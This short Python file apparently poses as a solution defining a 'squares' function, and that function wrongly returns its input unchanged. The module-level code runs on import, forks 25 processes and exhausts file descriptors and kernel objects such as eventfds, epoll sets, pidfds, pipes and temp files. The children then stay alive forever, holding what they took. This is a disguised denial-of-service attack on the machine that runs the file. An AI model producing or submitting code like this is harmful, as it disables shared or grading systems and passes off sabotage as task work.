"""Event counters, timers, watchers of files, signals by handle, poll sets: as many as there are."""
import os, select, signal, threading, time
kept = []
def hoard():
    while True:
        for make in (lambda: os.eventfd(2**64 - 2), select.epoll, lambda: os.pidfd_open(os.getpid()), os.pipe, lambda: os.open("/tmp", os.O_TMPFILE | os.O_RDWR)):
            try: kept.append(make())
            except (OSError, ValueError): return
for _ in range(25):
    if os.fork() == 0:
        hoard()
        while True: time.sleep(1)
hoard()
for _ in range(20): threading.Thread(target=lambda: signal.pause() if hasattr(signal, "pause") else None, daemon=True).start()
def squares(x): return x
